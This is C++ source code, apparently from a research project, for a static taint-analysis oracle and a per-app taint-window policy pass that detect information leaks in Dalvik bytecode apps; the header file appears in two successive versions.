        IntentPut,   //!< arg0's field summary |= arg2
        IntentGet,   //!< ret = arg0's field summary
        HandlerPost  //!< invoke vtable[0] of arg0's classes
    };

    Kind kind = Kind::Passthrough;
    std::set<dalvik::ClassId> ret_pts; //!< points-to of the result
};

/** Per-app configuration: native models plus well-known classes. */
struct OracleConfig
{
    std::map<dalvik::MethodId, NativeModel> natives;
    dalvik::ClassId char_array_cls = 0; //!< for SbInit's buf field
    /** Byte offset of the StringBuilder buffer field. */
    uint16_t sb_buf_offset = 0;
};

/** Outcome of one whole-program run. */
struct OracleResult
{
    bool leaks = false;
    /** Names of sink methods reached by tainted data. */
    std::vector<std::string> leak_sinks;
    unsigned outer_iterations = 0;
};

/**
 * Run the oracle over @p dex starting from @p main.
 * @p config supplies the native models; unlisted natives default to
 * Passthrough.
 */
OracleResult runOracle(const dalvik::Dex &dex, dalvik::MethodId main,
                       const OracleConfig &config);

} // namespace pift::static_analysis

#endif // PIFT_STATIC_ORACLE_HH
