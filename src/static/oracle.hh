/**
 * @file
 * Static source->sink taint oracle over registered bytecode.
 *
 * A whole-program forward taint analysis that classifies an app as
 * leaky or benign without executing it — the independent check the
 * dynamic PIFT verdicts are cross-validated against. The abstract
 * domain per virtual register is (tainted?, points-to class set);
 * globals are flow-insensitive monotone summaries: one value per
 * static field, one per (class, field offset), one per class's array
 * elements, one for the pending-exception slot, and an unknown-heap
 * bit for stores through refs with no points-to information.
 *
 * Methods are analyzed flow-sensitively (the CFG fixpoint of
 * dataflow.hh) and composed context-insensitively: each callee
 * accumulates the join of its argument values over every call site
 * and exports one return summary. An outer fixpoint re-analyzes until
 * globals and summaries stabilise.
 *
 * The key propagation rule mirrors dynamic PIFT's behaviour on
 * reference-typed data: loading through a tainted base reference
 * yields tainted data (the string's characters are reached through
 * the tainted String ref).
 *
 * The oracle runs in one of two modes:
 *
 *   Explicit — control dependence is deliberately untracked. This is
 *   the historical behaviour: the Section 4.2 implicit-flow
 *   obfuscators are invisible (two documented false negatives), and
 *   the verdicts are the cross-check reference whenever the question
 *   is "does the dynamic heuristic over-approximate?" — the two
 *   methods' error sets are disjoint by construction.
 *
 *   Implicit — control dependence is joined in. Each method gets a
 *   post-dominator tree (dominators.hh) and a control-dependence
 *   graph (control_dep.hh); the taint of every (transitively)
 *   controlling branch condition is joined into the *primitive*
 *   values a control-dependent region defines — register defs, heap/
 *   static/array-summary writes and the primitive arguments of calls
 *   made inside the region (so native-call effects like a sink fed a
 *   char computed under a secret branch are caught). Reference-typed
 *   values (non-empty points-to set) are exempt: selecting between
 *   two constant strings under a secret branch moves no secret bytes
 *   into the payload the sink checks, which keeps the mode FP-free on
 *   the benign suite and matches the dynamic tracker's
 *   payload-granular verdicts. This mode closes both implicit-flow
 *   FNs and is the cross-check reference for soundness questions
 *   ("did the dynamic side silently miss a leak?"); see DESIGN.md.
 */

#ifndef PIFT_STATIC_ORACLE_HH
#define PIFT_STATIC_ORACLE_HH

#include <cstdint>
#include <map>
#include <set>
#include <string>
#include <vector>

#include "dalvik/method.hh"

namespace pift::static_analysis
{

/** Which flows the oracle tracks (see the file header). */
enum class OracleMode : uint8_t
{
    Explicit, //!< data flow only (historical behaviour)
    Implicit  //!< data flow + control dependence
};

/** Abstract value of one virtual register / one heap summary slot. */
struct AbstractValue
{
    bool taint = false;
    std::set<dalvik::ClassId> pts;

    /** Join @p other in; true when this value grew. */
    bool merge(const AbstractValue &other);
};

/** How the oracle models one native method. */
struct NativeModel
{
    enum class Kind : uint8_t
    {
        Passthrough, //!< ret = deep taint over all arguments (default)
        Source,      //!< ret tainted
        Sink,        //!< any deep-tainted argument is a leak
        Alloc,       //!< ret = fresh object of ret_pts, untainted
        SbInit,      //!< Alloc + points the buf field at char[]
        SbAppend,    //!< taints arg0's field summary from arg1
        ArrayCopy,   //!< element summary transfer arg0 -> arg2
        IntentPut,   //!< arg0's field summary |= arg2
        IntentGet,   //!< ret = arg0's field summary
        HandlerPost  //!< invoke vtable[0] of arg0's classes
    };

    Kind kind = Kind::Passthrough;
    std::set<dalvik::ClassId> ret_pts; //!< points-to of the result
};

/** Per-app configuration: native models plus well-known classes. */
struct OracleConfig
{
    std::map<dalvik::MethodId, NativeModel> natives;
    dalvik::ClassId char_array_cls = 0; //!< for SbInit's buf field
    /** Byte offset of the StringBuilder buffer field. */
    uint16_t sb_buf_offset = 0;
};

/** Outcome of one whole-program run. */
struct OracleResult
{
    bool leaks = false;
    /** Names of sink methods reached by tainted data. */
    std::vector<std::string> leak_sinks;
    unsigned outer_iterations = 0;
    OracleMode mode = OracleMode::Explicit;
    /** Branch blocks with tainted conditions seen (implicit mode). */
    unsigned tainted_branches = 0;
};

/**
 * Run the oracle over @p dex starting from @p main.
 * @p config supplies the native models; unlisted natives default to
 * Passthrough. The default @p mode preserves the explicit-only
 * analysis bit for bit.
 */
OracleResult runOracle(const dalvik::Dex &dex, dalvik::MethodId main,
                       const OracleConfig &config,
                       OracleMode mode = OracleMode::Explicit);

} // namespace pift::static_analysis

#endif // PIFT_STATIC_ORACLE_HH
