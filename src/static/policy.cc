#include "static/policy.hh"

#include <algorithm>
#include <sstream>

#include "static/decode.hh"

namespace pift::static_analysis
{

using dalvik::Bc;
using dalvik::MethodId;

PolicyInputs
analyzeUsage(const dalvik::Dex &dex, MethodId main)
{
    PolicyInputs in;
    std::set<MethodId> visited;
    std::vector<MethodId> work{main};
    while (!work.empty()) {
        MethodId id = work.back();
        work.pop_back();
        if (!visited.insert(id).second)
            continue;
        const dalvik::Method &m = dex.method(id);
        if (m.is_native)
            continue;
        for (const DecodedInst &inst : decodeAll(m.code)) {
            in.used_opcodes.insert(inst.bc);
            if (inst.isBranch() && inst.fallsThrough())
                in.has_cond_branch = true;
            switch (inst.bc) {
              case Bc::InvokeStatic:
              case Bc::InvokeDirect:
                work.push_back(inst.invoke_target);
                break;
              case Bc::InvokeVirtual:
                // No receiver points-to here: cover every class that
                // fills the slot.
                for (size_t c = 0; c < dex.classCount(); ++c) {
                    const auto &vt =
                        dex.classInfo(static_cast<dalvik::ClassId>(c))
                            .vtable;
                    if (inst.invoke_target < vt.size())
                        work.push_back(vt[inst.invoke_target]);
                }
                break;
              default:
                break;
            }
        }
    }
    return in;
}

StaticPolicy
derivePolicy(const std::string &app, const PolicyInputs &inputs,
             const WindowDerivation &d)
{
    StaticPolicy p;
    p.app = app;
    p.implicit_risk = inputs.implicit_risk;

    for (Bc bc : inputs.used_opcodes) {
        int dist = d.forBc(bc).derived_distance;
        if (dist == -2)
            dist = d.intra_max; // SVC inside the span: assume worst
        p.ni = std::max(p.ni, dist);
    }
    p.nt = 1;
    if (inputs.implicit_risk && inputs.has_cond_branch) {
        p.ni = std::max(p.ni, d.branch_tail_max + d.min_interposed +
                                  d.max_const_prefix);
        p.nt += d.interposed_stores;
    }
    p.untaint_mode = inputs.implicit_risk ? UntaintMode::Keep
                                          : UntaintMode::Scrub;
    return p;
}

StaticPolicy
joinPolicies(const std::vector<StaticPolicy> &policies)
{
    StaticPolicy joined;
    joined.app = "joined";
    for (const StaticPolicy &p : policies) {
        joined.ni = std::max(joined.ni, p.ni);
        joined.nt = std::max(joined.nt, p.nt);
        joined.implicit_risk |= p.implicit_risk;
        if (p.untaint_mode == UntaintMode::Keep)
            joined.untaint_mode = UntaintMode::Keep;
    }
    return joined;
}

std::string
formatPolicyTable(const std::vector<StaticPolicy> &policies)
{
    size_t width = 4;
    for (const StaticPolicy &p : policies)
        width = std::max(width, p.app.size());

    std::ostringstream out;
    out << "  " << std::string(width, ' ')
        << "   NI  NT  untaint  implicit-risk\n";
    for (const StaticPolicy &p : policies) {
        out << "  " << p.app
            << std::string(width - p.app.size(), ' ');
        std::string ni = std::to_string(p.ni);
        std::string nt = std::to_string(p.nt);
        out << "  " << std::string(3 - std::min<size_t>(3, ni.size()),
                                   ' ')
            << ni;
        out << "  " << std::string(2 - std::min<size_t>(2, nt.size()),
                                   ' ')
            << nt;
        out << "  "
            << (p.untaint_mode == UntaintMode::Keep ? "keep   "
                                                    : "scrub  ");
        out << "  " << (p.implicit_risk ? "yes" : "no") << "\n";
    }
    return out.str();
}

} // namespace pift::static_analysis
