/**
 * @file
 * Per-app static taint-window policy.
 *
 * The global taint window (NI, NT) of window.hh is the worst case
 * over the whole interpreter: every handler's data distance plus the
 * longest implicit-flow chain a Section 4.2 obfuscator can build. A
 * concrete app rarely needs all of it. This pass derives a per-app
 * policy from two static facts:
 *
 *   - the set of opcodes the app can actually reach (call-graph walk
 *     from its entry point), which bounds the intra-handler distance
 *     the window must cover, and
 *   - whether the app is implicit-flow risky — the implicit-mode
 *     oracle (oracle.hh) flags it leaky while the explicit mode does
 *     not — which decides whether the implicit-flow chain term and
 *     the interposed-store term must be added.
 *
 * Non-risky apps also get UntaintMode::Scrub (aggressive untainting
 * is safe: every flow is explicit, so clearing stale taint cannot
 * lose a leak), while risky apps keep stale taint as a safety net —
 * the EXPERIMENTS.md untainting-OFF ablation measured exactly this
 * trade. Joining every per-app policy must reproduce the global
 * Table 1 derivation, which is the invariant the tests pin.
 */

#ifndef PIFT_STATIC_POLICY_HH
#define PIFT_STATIC_POLICY_HH

#include <set>
#include <string>
#include <vector>

#include "dalvik/method.hh"
#include "static/window.hh"

namespace pift::static_analysis
{

/** What the tracker does with taint the window has aged out. */
enum class UntaintMode : uint8_t
{
    Scrub, //!< clear aggressively; safe when all flows are explicit
    Keep   //!< retain stale taint as an implicit-flow safety net
};

/** The derived policy of one app. */
struct StaticPolicy
{
    std::string app;
    int ni = 0; //!< per-app instruction window
    int nt = 0; //!< per-app taint-propagation depth
    UntaintMode untaint_mode = UntaintMode::Scrub;
    bool implicit_risk = false;
};

/** Static facts about one app the policy derives from. */
struct PolicyInputs
{
    std::set<dalvik::Bc> used_opcodes; //!< reachable from the entry
    bool has_cond_branch = false;
    /** Implicit-mode oracle leaks where the explicit mode does not. */
    bool implicit_risk = false;
};

/**
 * Collect the opcodes reachable from @p main by walking the call
 * graph (static/direct targets exactly; virtual slots over every
 * class's vtable, conservatively). Does not set implicit_risk — that
 * comparison needs both oracle modes and is the caller's job.
 */
PolicyInputs analyzeUsage(const dalvik::Dex &dex,
                          dalvik::MethodId main);

/**
 * Derive @p app's policy from its usage facts and the interpreter
 * derivation @p d. NI covers every reachable opcode's distance
 * (unknown SVC-straddling distances fall back to the global
 * intra-handler max) plus, for risky apps, the full implicit-flow
 * chain; NT adds the interposed handler's stores for risky apps.
 */
StaticPolicy derivePolicy(const std::string &app,
                          const PolicyInputs &inputs,
                          const WindowDerivation &d);

/**
 * Join per-app policies into one device-wide policy: max windows,
 * Keep wins over Scrub, risk is disjunctive. Over a whole app suite
 * this must reproduce the global (derived_ni, derived_nt).
 */
StaticPolicy joinPolicies(const std::vector<StaticPolicy> &policies);

/** Render a fixed-width table of @p policies for reports/CLI. */
std::string formatPolicyTable(const std::vector<StaticPolicy> &policies);

} // namespace pift::static_analysis

#endif // PIFT_STATIC_POLICY_HH
